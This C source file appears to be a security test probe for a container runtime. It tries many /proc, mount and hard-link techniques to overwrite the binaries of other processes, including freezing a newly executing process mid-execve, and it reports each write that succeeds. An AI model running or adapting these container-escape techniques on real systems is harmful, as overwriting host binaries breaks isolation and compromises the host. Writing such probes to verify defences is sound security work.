/* Tries to write the program of other processes through /proc, in every way there is.
 *
 *   binary hold PID...    the programs of these processes: now, and again after each has ended
 *   binary next           the program of the next process of this pid namespace that runs a file
 *                         which is none of this root's: a process that joins, or what it became
 *
 * Each way that works is a line "WROTE way"; each refusal of a plain open for writing tells its errno.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

struct mount_attr_ { uint64_t set, clear, propagation, userns; };
static const struct mount_attr_ WRITABLE = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };

static void check(const char *way, long result) {
	if (result >= 0) printf("WROTE %s\n", way);
}

/* Opens for writing and writes. Text file busy is no defence: the file will be free one day. */
static void open_and_write(const char *way, const char *path, int flags) {
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0) {
		printf("%s: %s\n", way, strerrorname_np(errno));
		return;
	}
	check(way, pwrite(fd, "owned", 5, 0));
	close(fd);
}

static void attack(const char *path) {
	static int count;
	char place[64], link[64];
	struct mount_attr_ attr = WRITABLE;
	open_and_write("open", path, O_RDWR);
	open_and_write("open and truncate", path, O_WRONLY | O_TRUNC);
	check("truncate", truncate(path, 0));
	check("chmod", chmod(path, 0777));
	check("chown", chown(path, 1000, 1000));
	check("setxattr", setxattr(path, "user.owned", "1", 1, 0));
	check("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attr, sizeof attr));
	check("remount", mount("none", path, NULL, MS_REMOUNT | MS_BIND, NULL));
	check("remount of the file system", mount("none", path, NULL, MS_REMOUNT, NULL));

	int fd = open(path, O_PATH | O_CLOEXEC);
	check("mount_setattr of a descriptor", syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr));
	int clone = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);
	if (clone >= 0) {
		syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &attr, sizeof attr);
		snprintf(link, sizeof link, "/proc/self/fd/%d", clone);
		open_and_write("open_tree", link, O_RDWR);
		close(clone);
	}
	snprintf(place, sizeof place, "/tmp/place-%d", count++);
	close(open(place, O_CREAT | O_CLOEXEC, 0600));
	if (mount(path, place, NULL, MS_BIND, NULL) == 0) {
		mount(NULL, place, NULL, MS_REMOUNT | MS_BIND, NULL);
		open_and_write("bind mount", place, O_RDWR);
	}
	if (syscall(SYS_move_mount, fd, "", AT_FDCWD, place, 4 /* F_EMPTY_PATH */) == 0)
		open_and_write("move_mount", place, O_RDWR);
	unlink(place);
	if (linkat(AT_FDCWD, path, AT_FDCWD, place, AT_SYMLINK_FOLLOW) == 0) {
		open_and_write("link", place, O_RDWR);
		unlink(place);
	}
	close(fd);
}

/* The program of a process, and the same file as it is mapped. */
static void attack_process(const char *pid) {
	char path[64], entry[512];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	attack(path);
	struct stat exe, mapped;
	if (stat(path, &exe)) return;
	snprintf(path, sizeof path, "/proc/%s/map_files", pid);
	DIR *dir = opendir(path);
	for (struct dirent *e; dir && (e = readdir(dir));) {
		snprintf(entry, sizeof entry, "%s/%s", path, e->d_name);
		if (stat(entry, &mapped) == 0 && S_ISREG(mapped.st_mode) && mapped.st_ino == exe.st_ino) {
			puts("mapped");
			attack(entry);
			break;
		}
	}
	if (dir) closedir(dir);
}

/* What was opened while a process lived is what is left after its end. */
static void hold(int count, char **pids) {
	char path[64];
	int held[count], process[count];
	for (int i = 0; i < count; i++) {
		attack_process(pids[i]);
		snprintf(path, sizeof path, "/proc/%s/exe", pids[i]);
		process[i] = syscall(SYS_pidfd_open, atoi(pids[i]), 0);
		held[i] = open(path, O_RDONLY | O_CLOEXEC);
		printf("%s %s\n", held[i] < 0 ? "cannot open" : "holding", pids[i]);
	}
	puts("holding");
	for (int i = 0; i < count; i++) {
		struct pollfd ended = { .fd = process[i], .events = POLLIN };
		poll(&ended, 1, -1);
		printf("ended %s\n", pids[i]);
		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		attack(path);
	}
}

/* Whether a file is one of this root's programs. */
static int is_ours(const struct stat *file) {
	static const char *const ours[] = { "/proc/self/exe", "/bin/busybox" };
	struct stat own;
	for (int i = 0; i < 2; i++)
		if (stat(ours[i], &own) == 0 && own.st_dev == file->st_dev && own.st_ino == file->st_ino) return 1;
	return 0;
}

/* Stops a process, and returns once it has stopped; 0 if it is gone. */
static int stop(int number) {
	char path[64], stat[256], state;
	if (kill(number, SIGSTOP)) return 0;
	snprintf(path, sizeof path, "/proc/%d/stat", number);
	do {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t length = fd < 0 ? 0 : read(fd, stat, sizeof stat - 1);
		close(fd);
		if (length <= 0) return 0;
		stat[length] = 0;
		state = strrchr(stat, ')')[2];
		sched_yield();
	} while (state != 'T' && state != 'Z');
	return state == 'T';
}

/* The name of a process; an empty one if it is gone. */
static void name(int number, char name[16]) {
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/comm", number);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? 0 : read(fd, name, 15);
	name[length > 0 ? length : 0] = 0;
	close(fd);
}

/* The first process after this one that executes a file which is none of this root's. It is stopped right
 * there, before it can hide: its name changes in the middle of its execve. */
static void next(void) {
	struct stat exe;
	char path[64], pid[16], before[16], now[16];
	puts("ready");
	for (int number = getpid() + 1;; number++) {
		/* The next pid, or a later one: it may have been too short to be seen. */
		for (int first = number; kill(number, 0);)
			if (++number > first + 16) {
				number = first;
				sched_yield();
			}
		name(number, before);
		do name(number, now); while (*now && !strcmp(before, now));
		if (!stop(number)) continue;
		snprintf(path, sizeof path, "/proc/%d/exe", number);
		if (stat(path, &exe) || is_ours(&exe)) {
			kill(number, SIGCONT);
			continue;
		}
		printf("caught %d\n", number);
		snprintf(pid, sizeof pid, "%d", number);
		attack_process(pid);
		int process = syscall(SYS_pidfd_open, number, 0);
		int held = open(path, O_RDONLY | O_CLOEXEC);
		struct pollfd ended = { .fd = process, .events = POLLIN };
		kill(number, SIGCONT);
		poll(&ended, 1, -1);
		printf("ended %d\n", number);
		snprintf(path, sizeof path, "/proc/self/fd/%d", held);
		attack(path);
		return;
	}
}

/* What a container got as its stdin: is it, or the mount it lies on, its own to change? */
static void change_stdin(void) {
	struct mount_attr_ attr = WRITABLE;
	struct stat own;
	check("mount_setattr", syscall(SYS_mount_setattr, 0, "", AT_EMPTY_PATH, &attr, sizeof attr));
	check("move_mount", syscall(SYS_move_mount, 0, "", AT_FDCWD, "/binary", 4 /* MOVE_MOUNT_F_EMPTY_PATH */));
	if (fstat(0, &own)) return;
	check("fchmod", fchmod(0, own.st_mode & 07777));
	check("fchown", fchown(0, own.st_uid, own.st_gid));
	check("futimens", futimens(0, NULL));
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && !strcmp(argv[1], "next"))
		next();
	else if (argc == 2 && !strcmp(argv[1], "stdin"))
		change_stdin();
	else if (argc > 2 && !strcmp(argv[1], "hold"))
		hold(argc - 2, argv + 2);
	else
		return 2;
	puts("done");
	return 0;
}
